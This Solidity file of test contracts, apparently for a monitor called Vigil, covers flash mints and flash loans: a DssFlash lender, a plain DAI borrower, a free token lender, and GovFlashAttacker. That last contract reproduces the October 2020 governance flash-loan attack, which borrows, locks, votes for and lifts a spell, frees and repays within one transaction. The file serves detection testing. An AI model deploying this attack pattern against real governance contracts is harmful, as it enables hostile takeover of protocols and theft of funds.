// SPDX-License-Identifier: MIT
// Vigil test contracts: flash mints and flash loans.
//  - DssFlash (MCD_FLASH): ERC-3156 flash mint of DAI and vatDaiFlashLoan of internal dai, capped by
//    `max`, fee `toll` (0 on mainnet today); events FlashLoan/VatDaiFlashLoan/File/Rely/Deny.
//  - GovLender: a plain ERC-3156 lender of governance tokens (the October 2020 attack borrowed MKR
//    from a lending pool), fee 0.
//  - GovFlashAttacker: borrows governance tokens, locks them in the chief, votes for a spell, lifts
//    it, frees and repays, all inside one transaction.
pragma solidity 0.8.30;

import "./lib.sol";

interface IERC3156FlashBorrower {
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32);
}

interface IERC3156FlashLender {
    function maxFlashLoan(address token) external view returns (uint256);
    function flashFee(address token, uint256 amount) external view returns (uint256);
    function flashLoan(IERC3156FlashBorrower receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IVatDaiFlashBorrower {
    function onVatDaiFlashLoan(address initiator, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32);
}

interface FlashDaiJoinLike {
    function vat() external view returns (address);
    function dai() external view returns (address);
    function join(address, uint256) external;
    function exit(address, uint256) external;
}

contract DssFlash is IERC3156FlashLender {
    mapping (address => uint256) public wards;
    function rely(address usr) external auth { wards[usr] = 1; emit Rely(usr); }
    function deny(address usr) external auth { wards[usr] = 0; emit Deny(usr); }
    modifier auth {
        require(wards[msg.sender] == 1, "DssFlash/not-authorized");
        _;
    }

    VatLike          public immutable vat;
    FlashDaiJoinLike public immutable daiJoin;
    TokenLike        public immutable dai;

    uint256 public max;     // maximum borrowable dai [wad]
    uint256 public toll;    // fee                    [wad]
    address public vow;     // receives the fees
    uint256 private locked;

    bytes32 public constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
    bytes32 public constant CALLBACK_SUCCESS_VAT_DAI = keccak256("VatDaiFlashBorrower.onVatDaiFlashLoan");

    event Rely(address indexed usr);
    event Deny(address indexed usr);
    event File(bytes32 indexed what, uint256 data);
    event File(bytes32 indexed what, address data);
    event FlashLoan(address indexed receiver, address token, uint256 amount, uint256 fee);
    event VatDaiFlashLoan(address indexed receiver, uint256 amount, uint256 fee);

    modifier lock {
        require(locked == 0, "DssFlash/reentrancy-guard");
        locked = 1;
        _;
        locked = 0;
    }

    constructor(address daiJoin_) {
        wards[msg.sender] = 1;
        emit Rely(msg.sender);
        VatLike vat_ = vat = VatLike(FlashDaiJoinLike(daiJoin_).vat());
        daiJoin = FlashDaiJoinLike(daiJoin_);
        TokenLike dai_ = dai = TokenLike(FlashDaiJoinLike(daiJoin_).dai());
        vat_.hope(daiJoin_);
        dai_.approve(daiJoin_, type(uint256).max);
    }

    uint256 constant WAD = 10 ** 18;
    uint256 constant RAY = 10 ** 27;
    uint256 constant RAD = 10 ** 45;

    function file(bytes32 what, uint256 data) external auth {
        if (what == "max") {
            require(data <= RAD, "DssFlash/ceiling-too-high");
            max = data;
        } else if (what == "toll") toll = data;
        else revert("DssFlash/file-unrecognized-param");
        emit File(what, data);
    }

    function file(bytes32 what, address data) external auth {
        if (what == "vow") vow = data;
        else revert("DssFlash/file-unrecognized-param");
        emit File(what, data);
    }

    function maxFlashLoan(address token) external view override returns (uint256) {
        return token == address(dai) && locked == 0 ? max : 0;
    }

    function flashFee(address token, uint256 amount) public view override returns (uint256) {
        require(token == address(dai), "DssFlash/token-unsupported");
        return amount * toll / WAD;
    }

    function flashLoan(IERC3156FlashBorrower receiver, address token, uint256 amount, bytes calldata data)
        external override lock returns (bool)
    {
        require(token == address(dai), "DssFlash/token-unsupported");
        require(amount <= max, "DssFlash/ceiling-exceeded");

        uint256 amt = amount * RAY;
        uint256 fee = flashFee(token, amount);

        vat.suck(address(this), address(this), amt);
        daiJoin.exit(address(receiver), amount);

        emit FlashLoan(address(receiver), token, amount, fee);

        require(receiver.onFlashLoan(msg.sender, token, amount, fee, data) == CALLBACK_SUCCESS, "DssFlash/callback-failed");

        dai.transferFrom(address(receiver), address(this), amount + fee);
        daiJoin.join(address(this), amount + fee);
        vat.heal(amt);
        if (fee > 0) vat.move(address(this), vow, fee * RAY);

        return true;
    }

    function vatDaiFlashLoan(IVatDaiFlashBorrower receiver, uint256 amount, bytes calldata data) external lock returns (bool) {
        require(amount <= max * RAY, "DssFlash/ceiling-exceeded");
        uint256 fee = amount * toll / WAD;

        vat.suck(address(this), address(receiver), amount);

        emit VatDaiFlashLoan(address(receiver), amount, fee);

        require(receiver.onVatDaiFlashLoan(msg.sender, amount, fee, data) == CALLBACK_SUCCESS_VAT_DAI, "DssFlash/callback-failed");

        vat.heal(amount);
        if (fee > 0) vat.move(address(this), vow, fee);
        return true;
    }
}

/// Borrows DAI from DssFlash (ERC-3156) or internal dai (vatDaiFlashLoan) and pays it straight back:
/// the plain flash mint a monitor sees on mainnet every day.
contract DaiFlashBorrower is IERC3156FlashBorrower, IVatDaiFlashBorrower {
    address public immutable flash;
    address public immutable vat;

    constructor(address flash_, address vat_) {
        flash = flash_;
        vat = vat_;
    }

    function borrow(address token, uint256 amount) external {
        IERC3156FlashLender(flash).flashLoan(this, token, amount, "");
    }

    function borrowVatDai(uint256 rad) external {
        DssFlash(flash).vatDaiFlashLoan(this, rad, "");
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata) external override returns (bytes32) {
        require(msg.sender == flash, "DaiFlashBorrower/not-flash");
        TokenLike(token).approve(flash, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function onVatDaiFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external override returns (bytes32) {
        require(msg.sender == flash, "DaiFlashBorrower/not-flash");
        VatLike(vat).move(address(this), flash, amount + fee);
        return keccak256("VatDaiFlashBorrower.onVatDaiFlashLoan");
    }
}

/// Lends any ERC-20 it holds through ERC-3156, for free (a lending pool stand-in).
contract GovLender is IERC3156FlashLender {
    bytes32 public constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    event FlashLoan(address indexed receiver, address token, uint256 amount, uint256 fee);

    function maxFlashLoan(address token) external view override returns (uint256) {
        return TokenLike(token).balanceOf(address(this));
    }

    function flashFee(address, uint256) external pure override returns (uint256) {
        return 0;
    }

    function flashLoan(IERC3156FlashBorrower receiver, address token, uint256 amount, bytes calldata data) external override returns (bool) {
        uint256 before = TokenLike(token).balanceOf(address(this));
        require(TokenLike(token).transfer(address(receiver), amount), "GovLender/transfer-failed");
        emit FlashLoan(address(receiver), token, amount, 0);
        require(receiver.onFlashLoan(msg.sender, token, amount, 0, data) == CALLBACK_SUCCESS, "GovLender/callback-failed");
        require(TokenLike(token).transferFrom(address(receiver), address(this), amount), "GovLender/repay-failed");
        require(TokenLike(token).balanceOf(address(this)) >= before, "GovLender/not-repaid");
        return true;
    }
}

interface AttackChiefLike {
    function lock(uint256) external;
    function free(uint256) external;
    function vote(address[] calldata) external returns (bytes32);
    function lift(address) external;
    function hat() external view returns (address);
    function IOU() external view returns (address);
}

/// The governance flash-loan pattern (October 2020): borrow, lock, vote, lift, free, repay, in one call.
contract GovFlashAttacker is IERC3156FlashBorrower {
    IERC3156FlashLender public immutable lender;
    AttackChiefLike     public immutable chief;
    address             public immutable gov;

    constructor(address lender_, address chief_, address gov_) {
        lender = IERC3156FlashLender(lender_);
        chief = AttackChiefLike(chief_);
        gov = gov_;
    }

    /// Elect `spell` as the hat with `amount` borrowed governance tokens.
    function attack(address spell, uint256 amount) external {
        lender.flashLoan(this, gov, amount, abi.encode(spell));
        require(chief.hat() == spell, "GovFlashAttacker/hat-not-moved");
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata data) external override returns (bytes32) {
        require(msg.sender == address(lender), "GovFlashAttacker/not-lender");
        address spell = abi.decode(data, (address));
        TokenLike(token).approve(address(chief), amount);
        TokenLike(chief.IOU()).approve(address(chief), amount);
        chief.lock(amount);
        address[] memory yays = new address[](1);
        yays[0] = spell;
        chief.vote(yays);
        chief.lift(spell);
        chief.free(amount);
        TokenLike(token).approve(address(lender), amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
